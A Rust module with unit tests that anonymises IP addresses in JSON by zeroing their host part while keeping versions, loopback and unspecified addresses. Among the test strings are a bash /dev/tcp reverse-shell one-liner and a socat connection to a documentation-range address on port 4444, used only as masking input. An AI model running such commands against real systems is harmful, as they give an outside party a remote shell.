//! Masking of addresses: the part that tells one host from its neighbours becomes zero.
//!
//! Of IPv4 the last byte goes, of IPv6 all but the first 48 bits. What is left tells private from public and one network
//! from another, which is what rules ask for. Addresses of this host itself tell nobody and stay.

use serde_json::Value;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

const IPV6_SEGMENTS_KEPT: usize = 3;

/// Masks every address in a value, wherever it stands in its texts. Numbers of versions look like addresses; what stands
/// at a key that names a version stays.
pub(crate) fn mask(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Some(masked) = masked_text(text) {
                *text = masked;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(mask),
        Value::Object(members) => {
            let is_version = |key: &str| key.to_ascii_lowercase().contains("version");
            members.iter_mut().filter(|(key, _)| !is_version(key)).for_each(|(_, member)| mask(member));
        }
        _ => {}
    }
}

/// The text with its addresses masked; `None` where there are none.
pub(crate) fn masked_text(text: &str) -> Option<String> {
    let masked = masked_ipv6(&masked_ipv4(text));
    (masked != text).then_some(masked)
}

/// Whether a character beside an address makes it a part of a word or of a longer number.
fn is_of_word(c: Option<char>) -> bool {
    c.is_some_and(|c| c.is_alphanumeric() || c == '_')
}

/// Masks four numbers with dots between them, whatever stands around them but more of the same.
fn masked_ipv4(text: &str) -> String {
    let mut masked = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(start) = text[at..].find(|c: char| c.is_ascii_digit()).map(|found| at + found) {
        let is_part = |c: char| c.is_ascii_digit() || c == '.';
        let end = text[start..].find(|c| !is_part(c)).map_or(text.len(), |found| start + found);
        // A dot at the end is that of a sentence.
        let number = text[start..end].trim_end_matches('.');
        let (before, after) = (text[..start].chars().next_back(), text[start + number.len()..].chars().next());
        let stands_alone = !is_of_word(before) && before != Some('.') && !is_of_word(after);
        masked.push_str(&text[at..start]);
        match number.parse::<Ipv4Addr>().ok().filter(|_| stands_alone) {
            Some(address) => masked.push_str(&masked_address(address.into()).to_string()),
            None => masked.push_str(number),
        }
        masked.push_str(&text[start + number.len()..end]);
        at = end;
    }
    masked.push_str(&text[at..]);
    masked
}

/// Masks addresses with colons; a port may stand on either side, behind one more.
fn masked_ipv6(text: &str) -> String {
    let is_part = |c: char| c.is_ascii_hexdigit() || matches!(c, '.' | ':');
    let mut masked = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(start) = text[at..].find(is_part).map(|found| at + found) {
        let end = text[start..].find(|c| !is_part(c)).map_or(text.len(), |found| start + found);
        let (before, after) = (text[..start].chars().next_back(), text[end..].chars().next());
        masked.push_str(&text[at..start]);
        let run = &text[start..end];
        match Some(run).filter(|_| !is_of_word(before) && !is_of_word(after)).and_then(masked_run) {
            Some(run) => masked.push_str(&run),
            None => masked.push_str(run),
        }
        at = end;
    }
    masked.push_str(&text[at..]);
    masked
}

/// A run of the characters of addresses as far as it is one.
fn masked_run(run: &str) -> Option<String> {
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_digit());
    let whole = (0, run.len());
    let after_port =
        run.split_once(':').filter(|(port, _)| is_number(port)).map(|(port, _)| (port.len() + 1, run.len()));
    let before_port = run.rsplit_once(':').filter(|(_, port)| is_number(port)).map(|(address, _)| (0, address.len()));
    let before_end = Some((0, run.trim_end_matches(['.', ':']).len()));
    let parts = [Some(whole), before_end, after_port, before_port];
    parts.into_iter().flatten().find_map(|(start, end)| {
        let address = run[start..end].parse::<Ipv6Addr>().ok()?;
        Some(format!("{}{}{}", &run[..start], masked_address(address.into()), &run[end..]))
    })
}

fn masked_address(address: IpAddr) -> IpAddr {
    if address.is_loopback() || address.is_unspecified() {
        return address;
    }
    match address {
        IpAddr::V4(address) => {
            let [a, b, c, _] = address.octets();
            Ipv4Addr::new(a, b, c, 0).into()
        }
        IpAddr::V6(address) => {
            if let Some(mapped) = address.to_ipv4_mapped() {
                let [a, b, c, _] = mapped.octets();
                return Ipv4Addr::new(a, b, c, 0).to_ipv6_mapped().into();
            }
            let mut segments = address.segments();
            segments[IPV6_SEGMENTS_KEPT..].fill(0);
            Ipv6Addr::from(segments).into()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn addresses_are_masked_wherever_they_stand() {
        for (text, wanted) in [
            ("192.0.2.77", "192.0.2.0"),
            ("192.0.2.77:443", "192.0.2.0:443"),
            ("192.0.2.77/32", "192.0.2.0/32"),
            ("2001:db8:1:2::7", "2001:db8:1::"),
            ("[2001:db8:1:2::7]:443", "[2001:db8:1::]:443"),
            ("::ffff:192.0.2.77", "::ffff:192.0.2.0"),
            ("ssh root@192.0.2.77, then 198.51.100.3.", "ssh root@192.0.2.0, then 198.51.100.0."),
            ("socat TCP:203.0.113.9:4444 -", "socat TCP:203.0.113.0:4444 -"),
            ("ssh -R 8080:203.0.113.9:80 u@h", "ssh -R 8080:203.0.113.0:80 u@h"),
            ("curl --resolve h:443:203.0.113.9", "curl --resolve h:443:203.0.113.0"),
            ("scp root@203.0.113.9:backup.tar .", "scp root@203.0.113.0:backup.tar ."),
            ("rsync 203.0.113.9::backup", "rsync 203.0.113.0::backup"),
            ("443:2001:db8:1:2:3:4:5:7", "443:2001:db8:1::"),
            ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "bash -i >& /dev/tcp/203.0.113.0/4444 0>&1"),
        ] {
            assert_eq!(masked_text(text).as_deref(), Some(wanted), "{text}");
        }
    }

    #[test]
    fn what_is_no_address_of_another_host_stays() {
        for text in [
            "",
            "127.0.0.1",
            "0.0.0.0",
            "::1",
            "::",
            "10:20:30",
            "aa:bb:cc:dd:ee:ff",
            "1.2.3",
            "v1.2.3.4x",
            "300.1.1.1",
            "lib_1.2.3.4",
            "caf\u{e9} 12",
            "deadbeef",
        ] {
            assert_eq!(masked_text(text), None, "{text}");
        }
    }

    #[test]
    fn versions_stay() {
        let mut value = json!({"Version": "1.2.3.4", "KernelVersion": "5.10.0.9", "Remote": ["192.0.2.7"], "n": 5});
        mask(&mut value);
        assert_eq!(value, json!({"Version": "1.2.3.4", "KernelVersion": "5.10.0.9", "Remote": ["192.0.2.0"], "n": 5}));
    }
}
